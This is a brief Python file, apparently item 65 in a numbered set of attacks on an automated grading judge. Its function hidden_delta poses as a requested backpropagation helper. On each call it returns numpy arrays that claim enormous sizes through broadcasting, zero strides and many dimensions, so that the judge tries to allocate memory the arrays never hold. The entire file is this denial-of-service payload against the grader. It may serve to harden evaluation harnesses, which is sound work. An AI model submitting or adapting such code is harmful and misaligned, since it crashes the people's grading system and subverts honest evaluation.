# attack: 65
# title: arrays of huge extent without data, strides of zero, 16 dimensions
# success: the judge allocates what the array only claims to hold
# kind: function
# unshown: aims at the judge's memory
import numpy as np

CALLS = []


def hidden_delta(W_next, delta_next, z):
    CALLS.append(1)
    return [
        np.broadcast_to(np.float64(1), (2**31 - 1, 2**20)),
        np.empty((2**31 - 1, 0)),
        np.empty((1,) * 16 + (0,) * 16),
        np.lib.stride_tricks.as_strided(np.ones(1), (10**9,), (0,)),
        np.empty((16 << 20, 0)),
    ][len(CALLS) % 5]
